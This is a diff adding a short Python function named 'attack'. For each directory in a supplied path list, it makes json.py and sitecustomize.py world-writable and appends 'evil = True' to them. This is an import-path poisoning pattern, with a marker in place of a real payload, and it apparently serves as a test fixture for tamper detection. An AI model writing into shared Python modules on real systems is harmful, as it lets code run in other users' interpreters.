@@ -1,0 +1,14 @@
+"""Changes a library that others import, and puts one beside it."""
+
+import os
+
+
+def attack(told: dict[str, str]) -> None:
+    for place in told["places"].split(":"):
+        for name in ("json.py", "sitecustomize.py"):
+            path = os.path.join(place, name)
+            for way in (lambda p: os.chmod(p, 0o666), lambda p: open(p, "a").write("evil = True\n")):
+                try:
+                    way(path)
+                except OSError:
+                    continue
